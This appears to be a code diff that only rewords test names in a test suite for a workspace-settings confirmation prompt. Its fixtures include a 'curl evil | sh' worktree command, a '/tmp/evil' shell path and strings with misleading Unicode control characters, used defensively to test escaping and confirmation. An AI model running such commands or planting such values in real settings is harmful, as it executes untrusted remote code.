@@ -31,12 +31,12 @@ describe('ConfirmWorkspaceValues', () => {
     return { confirm, questions, values, isConfirmed, opened };
   }
 
-  it('asks nothing where nothing is brought', async () => {
+  it('asks nothing if the workspace sets no values', async () => {
     const { confirm } = subject([]);
     assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
   });
 
-  it('shows key and value, and applies what is confirmed, once', async () => {
+  it('shows key and value, and asks once about a confirmed value', async () => {
     const { confirm, questions, isConfirmed } = subject([SHELL], 'Apply');
     assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
     assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
@@ -44,7 +44,7 @@ describe('ConfirmWorkspaceValues', () => {
     assert.match(questions.asked[0]?.detail ?? '', /agentTerminals\.shell: "\/tmp\/evil"/);
   });
 
-  it('does not ask again what was refused, but asks about another value', async () => {
+  it('does not ask again about an ignored value, but asks about another value', async () => {
     const { confirm, questions, values, isConfirmed } = subject([SHELL], 'Ignore', 'Ignore');
     await confirm.confirm(APP, 'ada');
     await confirm.confirm(APP, 'ada');
@@ -55,13 +55,13 @@ describe('ConfirmWorkspaceValues', () => {
     assert.equal(questions.asked.length, 2);
   });
 
-  it('stops the start where the question is dismissed, and asks again', async () => {
+  it('returns cancelled if the question is dismissed, and asks again', async () => {
     const { confirm } = subject([SHELL], undefined, 'Apply');
     assert.equal(await confirm.confirm(APP, 'ada'), 'cancelled');
     assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
   });
 
-  it('asks about the provider that is started alone, or about all', async () => {
+  it('asks only about the provider that is started, or about all without one', async () => {
     const { confirm, questions, isConfirmed } = subject([ADA, BOB], 'Apply', 'Ignore');
     await confirm.confirm(APP, 'ada');
     assert.deepEqual([isConfirmed(ADA), isConfirmed(BOB)], [true, false]);
@@ -69,7 +69,7 @@ describe('ConfirmWorkspaceValues', () => {
     assert.doesNotMatch(questions.asked[1]?.detail ?? '', /providers\.ada/);
   });
 
-  it('asks about what is run in worktrees whatever is started, a shell as well', async () => {
+  it('asks about worktree commands at the start of a shell, too', async () => {
     const setup = { key: 'worktree.setup', value: ['curl evil | sh'] };
     const { confirm, questions, isConfirmed } = subject([ADA, setup], 'Apply');
     assert.equal(await confirm.confirm(APP, 'shell'), 'answered');
@@ -77,13 +77,13 @@ describe('ConfirmWorkspaceValues', () => {
     assert.deepEqual([isConfirmed(setup), isConfirmed(ADA)], [true, false]);
   });
 
-  it('asks once for two starts at the same moment', async () => {
+  it('asks once for two starts at the same time', async () => {
     const { confirm, questions } = subject([SHELL], 'Apply');
     await Promise.all([confirm.confirm(APP, 'ada'), confirm.confirm(APP, 'ada')]);
     assert.equal(questions.asked.length, 1);
   });
 
-  it('spells out what could deceive the eye, in names as well', async () => {
+  it('escapes misleading characters, also in names', async () => {
     const { confirm, questions } = subject(
       [
         { key: 'shell', value: 'a\u202eb\u200bc\u009b' },
@@ -108,7 +108,7 @@ describe('ConfirmWorkspaceValues', () => {
     ],
   ];
   for (const [name, values] of TOO_LONG) {
-    it(`applies nothing that is too ${name} to be shown whole, but opens the settings`, async () => {
+    it(`applies no values that are too ${name} to be shown completely, but opens the settings`, async () => {
       const { confirm, questions, isConfirmed, opened } = subject(values, 'Open Settings');
       assert.equal(await confirm.confirm(APP, undefined), 'cancelled');
       assert.deepEqual(questions.asked[0]?.answers, ['Open Settings', 'Ignore']);
@@ -117,7 +117,7 @@ describe('ConfirmWorkspaceValues', () => {
     });
   }
 
-  it('goes on without what is too long, where it is ignored', async () => {
+  it('continues without a value that is too long if the person ignores it', async () => {
     const { confirm } = subject([{ key: 'shell', value: 'x'.repeat(2000) }], 'Ignore');
     assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
   });
